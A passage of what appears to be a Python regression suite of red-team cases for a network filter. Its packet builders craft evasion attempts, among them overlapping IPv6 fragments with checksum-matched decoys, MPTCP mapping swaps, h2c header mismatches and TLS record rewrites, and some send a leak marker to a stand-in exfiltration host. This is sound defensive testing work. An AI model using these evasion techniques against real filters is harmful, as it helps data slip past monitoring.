    t.handshake()
    head = b"GET /feed HTTP/1.1\r\nUser-Agent: curl/8.5.0\r\nX-Pad: " + b"p" * 2000
    head = head[:1000 - 20] + b"\r\n"
    real = head + b"Host: m.vk.com\r\nX-M: " + leak(n) + b"\r\n\r\n"
    decoy = head + b"Host: ex.a.org\r\nX-M: " + b"d" * len(leak(n)) + b"\r\n\r\n"
    assert len(real) == len(decoy)
    seg = bytes(TCP(sport=port, dport=80, flags="PA", seq=t.cseq, ack=t.sseq, window=64240) / Raw(real))
    # the pseudo header is the same for both: fix the sum for real, then make decoy's
    # words sum alike (two bytes of its X-M value)
    pseg = bytes(IPv6(src=O6, dst=SOC6) / TCP(sport=port, dport=80, flags="PA", seq=t.cseq, ack=t.sseq,
                                             window=64240) / Raw(real))[40:]
    tcp_real = pseg
    tcp_decoy = bytearray(pseg[:20] + decoy)
    want = _rt11_csum16(tcp_real[1000:])
    k = 20 + len(head) + len(b"Host: ex.a.org\r\nX-M: ")
    if k % 2:
        k += 1
    found = False
    for v in range(94 * 94):
        tcp_decoy[k] = 0x21 + (v % 94)
        tcp_decoy[k + 1] = 0x21 + v // 94
        tcp_decoy[k + 2] = tcp_decoy[k + 3] = 0
        rest = _rt11_csum16(bytes(tcp_decoy[1000:]))
        w2 = (want - rest) % 0xFFFF
        if 0x21 <= w2 >> 8 <= 0x7E and 0x21 <= (w2 & 0xFF) <= 0x7E:
            tcp_decoy[k + 2], tcp_decoy[k + 3] = w2 >> 8, w2 & 0xFF
            found = _rt11_csum16(bytes(tcp_decoy[1000:])) == want
            if found:
                break
    assert found
    tcp_decoy = bytes(tcp_decoy)
    assert tcp_decoy[:1000] == tcp_real[:1000]
    udp = bytes(IPv6(src=O6, dst=SOC6) / UDP(sport=port, dport=80) / Raw(prand(n + "u", 992 - 8 + 8) + tcp_real[1000:]))[40:]
    udp = bytes(IPv6(src=O6, dst=SOC6) / UDP(sport=port, dport=80) / Raw(udp[8:]))[40:]
    fid = 0x5151
    def frag(nh, off, more, data, hlim=64, pre=None):
        ip = IPv6(src=O6, dst=SOC6, hlim=hlim)
        if pre is not None:
            ip = ip / pre
        cap.emit(l2(O6, SOC6) / ip / IPv6ExtHdrFragment(nh=nh, offset=off // 8, m=int(more), id=fid) / Raw(data), 300)
    frag(6, 0, True, tcp_real[:1000])
    frag(17, 1000, False, tcp_real[1000:])
    if how == "hlim":
        frag(17, 0, True, udp[:1000], hlim=1)
    else:
        frag(17, 0, True, udp[:1000], pre=IPv6ExtHdrDestOpt(options=[HBHOptUnknown(otype=0x80, optdata=b"\x00" * 4)]))
    frag(6, 1000, False, tcp_decoy[1000:])
    t.cseq += len(real)
    t.raw(False, "A")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt11_frag6_nh_hlim_vk(n):
    """(Red team round 11) _rt11_frag6_nh with A' of hop limit 1. Must drop (social)."""
    return _rt11_frag6_nh(n, 54119, "hlim")


@case
def case_rt11_frag6_nh_dstopt_vk(n):
    """(Red team round 11) _rt11_frag6_nh with A' behind a destination option of an
    unknown type that says discard (RFC 8200 4.2). Must drop (social)."""
    return _rt11_frag6_nh(n, 54120, "dstopt")


@case
def case_rt11_addad(n):
    """(Red team round 11) A carrier on an MPTCP connection the e2m server agreed to
    (rt8b_mptcp_ok's): each of the client's ACKs carries an ADD_ADDR for IPv6 with a port
    and an HMAC (30 bytes, a length RFC 8684 gives it), its address the marker and its
    HMAC anything: the server checks the HMAC and ignores the option, everything on the
    way reads 26 bytes a segment. Also one of length 29, which no subtype has. Must not
    pass."""
    cap = Capture()
    t = ETcp(cap, S1, 54121, E2M, 443, isn=54121, rtt_us=20000)
    kc, ks = prand(n + "kc", 8), prand(n + "ks", 8)
    t.raw(True, "S", options=Tcp.SYN_OPTS + [(30, b"\x01\x01")])
    t.cseq += 1
    t.raw(False, "SA", options=Tcp.SYN_OPTS + [(30, b"\x01\x01" + ks)])
    t.sseq += 1
    t.raw(True, "A", options=[(30, b"\x01\x01" + ks + kc)])
    dsn = {True: 1, False: 1}
    assert len(leak(n)) == 16
    k = [0]

    def seg(from_client, payload):
        mine = dsn[from_client]
        dss = b"\x20\x05" + struct.pack("!IIIH", dsn[not from_client] & M32, mine & M32,
                                         (t.cseq - 54122 if from_client else t.sseq - (54121 * 7 + 4001)) & M32,
                                         len(payload))
        t.raw(from_client, "PA", payload, options=[(30, dss)])
        dsn[from_client] += len(payload)
        if from_client:
            t.cseq += len(payload)
        else:
            t.sseq += len(payload)
        if not from_client:
            k[0] += 1
            if k[0] % 2:
                add = b"\x30\x01" + leak(n) + b"\x01\xbb" + prand(n + "h%d" % k[0], 8)
            else:
                add = b"\x30\x01" + leak(n) + b"\x01\xbb" + prand(n + "h%d" % k[0], 7)
            t.raw(True, "A", options=[(30, b"\x20\x01" + struct.pack("!I", dsn[False] & M32)), (30, add)])
        else:
            t.raw(False, "A", options=[(30, b"\x20\x01" + struct.pack("!I", dsn[True] & M32))])
    seg(True, hello(n))
    seg(False, server_hello_flight(n))
    seg(True, CCS + tls_appdata(n + "fin", 53))
    seg(True, tls_appdata(n + "req", 200))
    seg(False, tls_appdata(n + "resp", 500))
    seg(False, tls_appdata(n + "resp2", 500))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt11_curl_h2c_ok(n):
    """(Red team round 11) Must-allow: office, `curl --http2 http://www.example.org/` asks
    for an upgrade to h2c (Connection: Upgrade, HTTP2-Settings; Upgrade: h2c), which
    nginx, Apache without mod_http2's h2c, and most servers ignore: they answer in HTTP/1.1
    and the connection stays HTTP/1.1. Refusing any Upgrade: h2c whatever the zone refuses
    every curl --http2 on plain http. The server's answer (101 or not) says which
    protocol follows."""
    cap = Capture()
    t = ETcp(cap, O1, 54122, SOC, 80, isn=54122 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"GET /x HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n"
           b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
           b"HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\nX-Mark: " + passm(n) + b"\r\n\r\n")
    _ok_answer(t, n)
    t.data(True, b"GET /y HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n")
    _ok_answer(t, n + "2")
    t.close()
    return cap, {"pass": [passm(n)]}


def _rt11_first_method(n, port, method):
    cap = Capture()
    t = ETcp(cap, O1, port, SOC, 80, isn=port * 7, rtt_us=20000)
    t.handshake()
    for i in range(6):
        t.data(True, method + b" /%d HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n" % i)
        t.data(False, b"HTTP/1.1 405 Not Allowed\r\nContent-Length: 0\r\n\r\n")
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt11_first_longmethod_vk(n):
    """(Red team round 11) As rt10e_odd_method_vk with a method of 40 letters: nginx takes
    any run of A-Z, _ and - (ngx_http_parse_request_line has no bound), answers 405 and
    keeps the connection; our reader takes 3 to 31 (hs_method), so the first payload is no
    HTTP start (hs_http_starts) and the flow is not read for its life. Six such requests
    (past the classifier's payload window: the verdict is given), then a GET for
    m.vk.com. Must drop (social)."""
    return _rt11_first_method(n, 54123, b"A" * 40)


@case
def case_rt11_first_shortmethod_vk(n):
    """(Red team round 11) As rt11_first_longmethod_vk with a method of two letters ("GO"):
    nginx reads it and answers 405 on a kept connection; hs_method wants three at least.
    Must drop (social)."""
    return _rt11_first_method(n, 54124, b"GO")


def _rt11_h2_two_names(n, port, auth, host):
    cap = Capture()
    t = ETcp(cap, O1, port, SOC, 80, isn=port * 7, rtt_us=20000)
    t.handshake()
    hb = (b"\x82\x86\x84" + b"\x01" + bytes([len(auth)]) + auth
          + b"\x00\x04host" + bytes([len(host)]) + host
          + b"\x00\x06x-mark" + bytes([len(leak(n))]) + leak(n))
    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"") + h2_frame(1, 5, 1, hb))
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 1, b"\x88")
           + h2_frame(0, 1, 1, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt11_h2c_host_vk(n):
    """(Red team round 11) Office h2c: a HEADERS block with :authority www.example.org and
    a host field m.vk.com (RFC 9113 8.3.1: a server SHOULD refuse them, some take Host).
    Must drop (social, or refused)."""
    return _rt11_h2_two_names(n, 54125, b"www.example.org", b"m.vk.com")


@case
def case_rt11_h2c_auth_vk(n):
    """(Red team round 11) rt11_h2c_host_vk the other way round: :authority m.vk.com, host
    www.example.org. Must drop (social, or refused)."""
    return _rt11_h2_two_names(n, 54126, b"m.vk.com", b"www.example.org")


@case
def case_rt11_h2w_v6_lan_ok(n):
    """(Red team round 11) Must-allow: the h2c share (8 a worker, judge_h2w_open) counts an
    IPv6 /64 as one address (round 7), but an office's IPv6 LAN is one /64 (the request
    log's share went by address in round 10 for that: rt10e_v6_share_dos_ok). One office
    host (2001:db8:20::a1, a gRPC channel pool) keeps 8 h2c connections with prior
    knowledge open; then its LAN neighbour 2001:db8:20::b2 opens one: refused
    (classifier_alloc, whatever the zone)."""
    cap = Capture()
    for i in range(8):
        c = ETcp(cap, "2001:db8:20::a1", 54130 + i, SOC6, 80, isn=54130 * 7 + i * 977, rtt_us=200)
        c.handshake()
        c.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
               + h2_frame(1, 5, 1, h2_hb(b"www.example.org", b"d%d" % i)))
        c.data(False, h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, b"ok"))
    t = ETcp(cap, "2001:db8:20::b2", 54129, SOC6, 80, isn=54129 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
           + h2_frame(1, 5, 1, h2_hb(b"www.example.org", b"one")))
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, b"ok"))
    t.data(True, h2_frame(1, 5, 3, h2_hb(b"www.example.org", passm(n))))
    t.data(False, h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, passm(n)))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt11_h2pk_gap_far_vk(n):
    """(Red team round 11) Office h2c with prior knowledge: the preface, SETTINGS with two
    parameters, WINDOW_UPDATE and PING (75 bytes, past CLS_JOIN_MAX), then a segment past
    a gap at 17000 bytes (past the first-bytes slot, which keeps none of it): HEADERS for
    stream 3, m.vk.com, forwarded unread (judge_tcp_long, TCP_SKIP: the h2c reading lives
    in the slot until its first HEADERS, judge_http_more sees nothing). Then the gap in
    order: HEADERS for stream 1 (www.example.org, a POST) and DATA frames of stream 1 up
    to 17000: read, allowed. The server reads stream 3 right after. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 54138, SOC, 80, isn=54138 * 7, rtt_us=20000)
    t.handshake()
    base = t.cseq
    first = (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"\x00\x02\x00\x00\x00\x00\x00\x04\x00\x60\x00\x00")
             + h2_frame(8, 0, 0, b"\x00\x3f\x00\x01") + h2_frame(6, 0, 0, b"pingpong"))
    assert len(first) > 64
    t.raw(True, "PA", first, seq=base)
    t.raw(False, "A", ack=base + len(first))
    far = 17000
    hb3 = (b"\x82\x86\x84" + b"\x01" + bytes([8]) + b"m.vk.com"
           + b"\x00\x06x-mark" + bytes([len(leak(n))]) + leak(n))
    evil = h2_frame(1, 5, 3, hb3)
    t.raw(True, "PA", evil, seq=base + far)
    t.raw(False, "A", ack=base + len(first))
    hb1 = b"\x83\x86\x84" + b"\x01" + bytes([15]) + b"www.example.org"
    fill = h2_frame(1, 4, 1, hb1)
    left = far - len(first) - len(fill)
    while left > 0:
        k = min(left - 9, 8000)
        if left - (k + 9) in range(1, 10):
            k -= 10
        fill += h2_frame(0, 1 if left == k + 9 else 0, 1, prand(n + "d%d" % left, k))
        left -= k + 9
    assert len(first) + len(fill) == far
    at = base + len(first)
    for o in range(0, len(fill), 1448):
        t.raw(True, "PA", fill[o:o + 1448], seq=at + o, gap=300)
    # (twenty-first session) the segment past the gap is now dropped, not
    # forwarded: the client sends it again once the gap is filled, as any
    # stack does, and it must be read then
    t.raw(True, "PA", evil, seq=base + far)
    t.cseq = base + far + len(evil)
    t.raw(False, "A")
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 1, b"\x88")
           + h2_frame(0, 1, 1, b"ok") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


def _mptcp_dss_swap(n, port, syn_mp):
    """An e2m session whose SYN carries syn_mp (an MP_CAPABLE option) and whose SYN-ACK
    agrees to MPTCP; after the handshake the client sends a record header alone, mapped
    (DSS) after the body that follows it, then the body (plaintext HTTP with the marker),
    mapped first (rt11_mptcp_dss_swap, rt12_mptcp_forced_synack)."""
    cap = Capture()
    t = ETcp(cap, S1, port, E2M, 443, isn=port, rtt_us=20000)
    kc, ks = prand(n + "kc", 8), prand(n + "ks", 8)
    t.raw(True, "S", options=Tcp.SYN_OPTS + [syn_mp])
    t.cseq += 1
    t.raw(False, "SA", options=Tcp.SYN_OPTS + [(30, b"\x01\x01" + ks)])
    t.sseq += 1
    t.raw(True, "A", options=[(30, b"\x01\x01" + ks + kc)])
    dsn = {True: 1, False: 1}
    c0, s0 = t.cseq, t.sseq

    def seg(fc, payload, at=None):
        mine = dsn[fc] if at is None else at
        dss = b"\x20\x05" + struct.pack("!IIIH", dsn[not fc] & M32, mine & M32,
                                         ((t.cseq - c0 + 1) if fc else (t.sseq - s0 + 1)) & M32,
                                         len(payload))
        t.raw(fc, "PA", payload, options=[(30, dss)])
        if at is None:
            dsn[fc] += len(payload)
        if fc:
            t.cseq += len(payload)
        else:
            t.sseq += len(payload)

    def ack(fc):
        t.raw(fc, "A", options=[(30, b"\x20\x01" + struct.pack("!I", dsn[not fc] & M32))])
    seg(True, hello(n)); ack(False)
    seg(False, server_hello_flight(n)); ack(True)
    seg(True, CCS + tls_appdata(n + "fin", 53)); ack(False)
    body = (b"GET /x HTTP/1.1\r\nHost: exfil.attacker.test\r\nX-M: " + leak(n) + b"\r\n\r\n")
    hdr = b"\x17\x03\x03" + struct.pack("!H", len(body))
    d0 = dsn[True]
    seg(True, hdr, at=d0 + len(body))
    seg(True, body, at=d0)
    dsn[True] = d0 + len(body) + len(hdr)
    ack(False)
    seg(False, tls_appdata(n + "resp", 300)); ack(True)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt11_mptcp_dss_swap(n):
    """(Red team round 11) MPTCP agreed by the e2m server (rt8b_mptcp_ok's connection). A
    DSS mapping places a subflow's bytes anywhere in the data-level stream (RFC 8684 3.3:
    mappings need not follow the subflow's order). After the handshake the client sends a
    record header alone, mapped after the body that follows it, then the body (plaintext
    HTTP), mapped first: we read a record header and its body on the subflow; the
    server's application reads the plaintext first, then the header. Must not pass."""
    return _mptcp_dss_swap(n, 54139, (30, b"\x01\x01"))


def _rt11_ws_frame(payload, key):
    """A client WebSocket text frame (RFC 6455 5.2), masked."""
    m = bytes(b ^ key[i % 4] for i, b in enumerate(payload))
    ln = len(payload)
    hdr = b"\x81" + (bytes([0x80 | ln]) if ln < 126 else b"\xfe" + struct.pack("!H", ln))
    return hdr + key + m


@case
def case_rt11_ws_ok(n):
    """(Red team round 11) Must-allow, the twin of rt11_upgrade_longmethod_vk: office, a
    WebSocket upgrade for www.example.org answered 101, then masked client frames (one
    of them, unmasked, a request line and a Host line) and the server's frames carrying
    the marker. A fix that reads on behind an upgrade must follow the server's 101."""
    cap, t = ka_flow(n, 54140, reqs=1)
    t.data(True, b"GET /chat HTTP/1.1\r\nHost: www.example.org\r\nUpgrade: websocket\r\n"
           b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
           b"Sec-WebSocket-Version: 13\r\n\r\n")
    t.data(False, b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           b"Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n")
    for i in range(6):
        msg = b"GET /feed HTTP/1.1\r\nHost: m.vk.com\r\n\r\n" if i == 2 else b'{"seq":%d}' % i
        t.data(True, _rt11_ws_frame(msg, prand(n + "k%d" % i, 4)))
        t.data(False, b"\x81" + bytes([len(passm(n)) + 2]) + passm(n) + b"%02d" % i)
    t.close()
    return cap, {"pass": [passm(n)]}


# ------------------------------------------------ red team round 12
def _rt12_srv_records(n):
    rec1 = tls_appdata(n + "s1", 600)
    rec2 = tls_appdata(n + "s2", 120)
    http = b"HTTP/1.1 200 OK\r\nX-Cmd: " + leak(n) + b"\r\n\r\n"
    http += b"x" * (len(rec2) - len(http))
    assert len(http) == len(rec2)
    return rec1, rec2, http


def _rt12_srv_tail(t, n, end):
    t.sseq = end
    t.raw(True, "A")
    t.data(True, tls_appdata(n + "more", 120))
    t.close()


@case
def case_rt12_srv_decoy_recend(n):
    """(Red team round 12) The steady fast path passes a server segment wholly inside a
    record's body unsummed. Here the decoy body copy (wrong checksum: the client drops it)
    ends exactly at the record's end, so the next server segment starts with the next
    record's header (read and logged). Then one segment from the hole on with plaintext
    where that header was: the client takes it in order and reads plaintext. The header
    log must compare it and refuse. Must drop."""
    cap = Capture()
    t = tls_established(cap, S1, 54702, E2M, 54702, n)
    rec1, rec2, http = _rt12_srv_records(n)
    base = t.sseq
    t.raw(False, "PA", rec1[:100], seq=base)
    t.raw(False, "PA", rec1[100:], seq=base + 100, tcpkw={"chksum": 0xDEAD})
    t.raw(False, "PA", rec2, seq=base + len(rec1))
    t.raw(True, "A", ack=base + 100)
    t.raw(False, "PA", rec1[100:] + http, seq=base + 100)
    _rt12_srv_tail(t, n, base + len(rec1) + len(rec2))
    return cap, {"leak": [leak(n)]}


@case
def case_rt12_srv_decoy_splithdr(n):
    """(Red team round 12) As rt12_srv_decoy_recend, the next record's header cut across
    two server segments (2 bytes, then 3 and the body): each piece is read and logged
    apart. Then plaintext from the hole on. Must drop."""
    cap = Capture()
    t = tls_established(cap, S1, 54703, E2M, 54703, n)
    rec1, rec2, http = _rt12_srv_records(n)
    base = t.sseq
    e = base + len(rec1)
    t.raw(False, "PA", rec1[:100], seq=base)
    t.raw(False, "PA", rec1[100:], seq=base + 100, tcpkw={"chksum": 0xDEAD})
    t.raw(False, "PA", rec2[:2], seq=e)
    t.raw(False, "PA", rec2[2:], seq=e + 2)
    t.raw(True, "A", ack=base + 100)
    t.raw(False, "PA", rec1[100:] + http, seq=base + 100)
    _rt12_srv_tail(t, n, e + len(rec2))
    return cap, {"leak": [leak(n)]}


@case
def case_rt12_srv_decoy_partial(n):
    """(Red team round 12) A server body decoy with a wrong checksum (the hole), the rest
    of the record and the next one (read), then an honest copy of the hole's first half
    (the client acknowledges it), then one segment from the middle of the hole on with
    plaintext over the next record's header. Must drop."""
    cap = Capture()
    t = tls_established(cap, S1, 54704, E2M, 54704, n)
    rec1, rec2, http = _rt12_srv_records(n)
    base = t.sseq
    t.raw(False, "PA", rec1[:100], seq=base)
    t.raw(False, "PA", rec1[100:400], seq=base + 100, tcpkw={"chksum": 0xDEAD})
    t.raw(False, "PA", rec1[400:] + rec2, seq=base + 400)
    t.raw(True, "A", ack=base + 100)
    t.raw(False, "PA", rec1[100:250], seq=base + 100)
    t.raw(True, "A", ack=base + 250)
    t.raw(False, "PA", rec1[250:] + http, seq=base + 250)
    _rt12_srv_tail(t, n, base + len(rec1) + len(rec2))
    return cap, {"leak": [leak(n)]}


@case
def case_rt12_srv_hdr_ttl(n):
    """(Red team round 12) Server segments that touch a record header are summed but not
    vetted: the next record (header and body) with a TTL of 1 (it expires before the
    client), read and logged by us; then plaintext at its sequence number. Must drop."""
    cap = Capture()
    t = tls_established(cap, S1, 54705, E2M, 54705, n)
    rec1, rec2, http = _rt12_srv_records(n)
    base = t.sseq
    t.raw(False, "PA", rec1, seq=base)
    t.raw(False, "PA", rec2, seq=base + len(rec1), ipkw={"ttl": 1})
    t.raw(True, "A", ack=base + len(rec1))
    t.raw(False, "PA", http, seq=base + len(rec1), gap=200000)
    _rt12_srv_tail(t, n, base + len(rec1) + len(rec2))
    return cap, {"leak": [leak(n)]}


@case
def case_rt12_srv_hdr_oldack(n):
    """(Red team round 12) The same with the header segment's ACK 300000 bytes behind the
    client's stream (Linux drops it: TCP_TOO_OLD_ACK), not vetted on the server's side.
    Then plaintext at its place. Must drop."""
    cap = Capture()
    t = tls_established(cap, S1, 54706, E2M, 54706, n)
    rec1, rec2, http = _rt12_srv_records(n)
    base = t.sseq
    t.raw(False, "PA", rec1, seq=base)
    t.raw(False, "PA", rec2, seq=base + len(rec1), ack=(t.cseq - 300000) & M32)
    t.raw(True, "A", ack=base + len(rec1))
    t.raw(False, "PA", http, seq=base + len(rec1), gap=200000)
    _rt12_srv_tail(t, n, base + len(rec1) + len(rec2))
    return cap, {"leak": [leak(n)]}


def _rt12_srv_steal(n, cport, others):
    cap = Capture()
    v = tls_established(cap, S1, cport, E2M, cport, n)
    rec1, rec2, http = _rt12_srv_records(n)
    base = v.sseq
    v.raw(False, "PA", rec1[:100], seq=base)
    v.raw(False, "PA", rec1[100:400], seq=base + 100, tcpkw={"chksum": 0xDEAD})
    v.raw(False, "PA", rec1[400:] + rec2, seq=base + 400)
    v.raw(True, "A", ack=base + 100)
    for i in range(others):
        # distinct keys (a reused key keeps its flow's log), hosts spread over both workers
        port = 54710 + (i % 4)
        host = "10.10.%d.%d" % (50 + (i // 4) % 150, 1 + (i // 600) % 250)
        t = ETcp(cap, host, port, E2M, 443, isn=(200000 + 977 * i) & M32, rtt_us=200)
        t.handshake(gap=100)
        t.data(True, hello(n + "h"))
        t.data(False, server_hello_flight(n + "h"))
        t.data(True, CCS + tls_appdata(n + "f%d" % i, 53))
        t.raw(True, "RA")
    v.raw(False, "PA", rec1[100:] + http, seq=base + 100, gap=50000)
    _rt12_srv_tail(v, n, base + len(rec1) + len(rec2))
    return cap, {"leak": [leak(n)]}


@case
def case_rt12_srv_steal_rewrite(n):
    """(Red team round 12) The server's hole (a body decoy with a wrong checksum, passed
    unsummed on the steady fast path) and the next record's header logged; the client
    acknowledges up to the hole only. The flow's own records are all acknowledged, so its
    header log is "idle" (judge_hlog_idle waits for the initiator's entries only) and 3400
    short sessions of other zone hosts (over 1024 of them on the victim's worker with two
    workers, within a few seconds, before the first of them expire and free slots
    that the search prefers) take it at the pool's wrap. Then the
    server fills the hole with plaintext over the logged header: compared with no log, it
    passes as old bytes; the client reads it. Must drop."""
    return _rt12_srv_steal(n, 54700, 3400)


@case
def case_rt12_srv_steal_rewrite_ctl(n):
    """(Red team round 12) Control: the same with 900 other sessions (no wrap)."""
    return _rt12_srv_steal(n, 54701, 900)


@case
def case_rt12_srv_recend_damaged_ok(n):
    """(Red team round 12) Must-allow: a server body segment that ends exactly at a record's
    end is damaged on the way (wrong checksum: passed unsummed), the next record's header
    segment goes on, the client acknowledges up to the hole (SACK), the server sends the
    damaged segment again byte for byte, then more records."""
    cap = Capture()
    t = tls_established(cap, S1, 54707, E2M, 54707, n)
    rec1 = tls_appdata(n + "s1", 600)
    rec2 = marked_record(passm(n), n + "s2", 300)
    base = t.sseq
    bad = bytearray(rec1[100:]); bad[7] ^= 0x55
    t.raw(False, "PA", rec1[:100], seq=base)
    t.raw(False, "PA", bytes(bad), seq=base + 100, tcpkw={"chksum": 0xBEEF})
    t.raw(False, "PA", rec2, seq=base + len(rec1))
    t.raw(True, "A", ack=base + 100,
          options=[("NOP", None), ("NOP", None), ("SAck", (base + len(rec1), base + len(rec1) + len(rec2)))])
    t.raw(False, "PA", rec1[100:], seq=base + 100)
    t.sseq = base + len(rec1) + len(rec2)
    t.raw(True, "A")
    t.data(False, tls_appdata(n + "s3", 900))
    t.data(True, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt12_srv_badfin_reuse_ok(n):
    """(Red team round 12) Must-allow: the server closes first; its last record's body
    and FIN arrive damaged (wrong checksum), the retransmission right; the client closes;
    2 s later the same ports open a new connection (ISN far above) and an e2m session."""
    cap = Capture()
    t = tls_established(cap, S1, 54708, E2M, 54708, n)
    rec = tls_appdata(n + "last", 400)
    base = t.sseq
    t.raw(False, "PA", rec[:200], seq=base)
    t.raw(False, "FPA", rec[200:], seq=base + 200, tcpkw={"chksum": 0xDEAD})
    t.raw(True, "A", ack=base + 200)
    t.raw(False, "FPA", rec[200:], seq=base + 200)
    t.sseq = base + len(rec) + 1
    t.raw(True, "A")
    t.raw(True, "FA")
    t.cseq += 1
    t.raw(False, "A")
    u = ETcp(cap, S1, 54708, E2M, 443, isn=(t.cseq + 0x1000000) & M32, rtt_us=20000)
    u.handshake(gap=2000000)
    u.data(True, hello(n + "2"))
    u.data(False, server_hello_flight(n + "2"))
    u.data(True, CCS + tls_appdata(n + "fin2", 53))
    u.data(True, marked_record(passm(n), n + "req2", 200))
    u.data(False, tls_appdata(n + "resp2", 700))
    u.close()
    return cap, {"pass": [passm(n)]}


# ------------------------------------------------ MPTCP stripping
MPC_V1 = (30, b"\x01\x81")


@case
def case_rt12_mptcp_forced_synack(n):
    """(Red team round 12) The client's SYN carries MP_CAPABLE (we strip it: the server
    sees none), but the server's SYN-ACK carries MP_CAPABLE anyway (an outside accomplice,
    or a server that answers one it never got): the Linux client takes MPTCP as agreed and
    sends MP_CAPABLE keys and DSS mappings. Then rt11_mptcp_dss_swap: a record header
    mapped after its body, which is plaintext. Either verdict; nothing of it may pass."""
    return _mptcp_dss_swap(n, 54720, MPC_V1)


@case
def case_rt12_mptcp_v6_ok(n):
    """(Red team round 12) Must-allow: a Linux MPTCP client over IPv6 (MP_CAPABLE v1 on
    its SYN, which we strip), the server answers without MPTCP, a plain TLS session."""
    cap = Capture()
    t = ETcp(cap, S6, 54721, E2M6, 443, isn=54721, rtt_us=20000)
    t.raw(True, "S", options=Tcp.SYN_OPTS + [MPC_V1])
    t.cseq += 1
    t.raw(False, "SA", options=Tcp.SYN_OPTS)
    t.sseq += 1
    t.raw(True, "A")
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req", 200))
    t.data(False, tls_appdata(n + "resp", 700))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt12_mptcp_join_subflow(n):
    """(Red team round 12) A first connection (MP_CAPABLE stripped, an honest session),
    then a second subflow's SYN with MP_JOIN from another port: stripped too, the server
    takes it for a new connection, and the client sends on it what an MPTCP subflow
    carries (DSS-mapped bytes of the data-level stream): plaintext, no ClientHello. The
    second flow must not pass it."""
    cap = Capture()
    t = ETcp(cap, S1, 54722, E2M, 443, isn=54722, rtt_us=20000)
    t.raw(True, "S", options=Tcp.SYN_OPTS + [MPC_V1])
    t.cseq += 1
    t.raw(False, "SA", options=Tcp.SYN_OPTS)
    t.sseq += 1
    t.raw(True, "A")
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    u = ETcp(cap, S1, 54723, E2M, 443, isn=547230, rtt_us=20000)
    u.raw(True, "S", options=Tcp.SYN_OPTS + [(30, b"\x10\x00" + prand(n + "tok", 4) + prand(n + "nonce", 4))])
    u.cseq += 1
    u.raw(False, "SA", options=Tcp.SYN_OPTS)
    u.sseq += 1
    u.raw(True, "A")
    body = b"GET /x HTTP/1.1\r\nHost: exfil.attacker.test\r\nX-M: " + leak(n) + b"\r\n\r\n"
    dss = b"\x20\x05" + struct.pack("!IIIH", 1, 600, 1, len(body))
    u.raw(True, "PA", body, options=[(30, dss)])
    u.cseq += len(body)
    u.raw(False, "A")
    u.close()
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt12_mptcp_office_ok(n):
    """(Red team round 12) Must-allow: an office host's MPTCP connection (not a checked
    flow: nothing stripped) agreed by the server, TLS for www.example.org with DSS
    mappings in order."""
    cap = Capture()
    t = ETcp(cap, O1, 54724, SOC, 443, isn=54724, rtt_us=20000)
    kc, ks = prand(n + "kc", 8), prand(n + "ks", 8)
    t.raw(True, "S", options=Tcp.SYN_OPTS + [MPC_V1])
    t.cseq += 1
    t.raw(False, "SA", options=Tcp.SYN_OPTS + [(30, b"\x01\x01" + ks)])
    t.sseq += 1
    t.raw(True, "A", options=[(30, b"\x01\x01" + ks + kc)])
    dsn = {True: 1, False: 1}
    c0, s0 = t.cseq, t.sseq

    def seg(fc, payload):
        dss = b"\x20\x05" + struct.pack("!IIIH", dsn[not fc] & M32, dsn[fc] & M32,
                                         ((t.cseq - c0 + 1) if fc else (t.sseq - s0 + 1)) & M32,
                                         len(payload))
        t.raw(fc, "PA", payload, options=[(30, dss)])
        dsn[fc] += len(payload)
        if fc:
            t.cseq += len(payload)
        else:
            t.sseq += len(payload)
        t.raw(not fc, "A", options=[(30, b"\x20\x01" + struct.pack("!I", dsn[fc] & M32))])
    seg(True, hello(n, sni="www.example.org"))
    seg(False, server_hello_flight(n))
    seg(True, CCS + tls_appdata(n + "fin", 53))
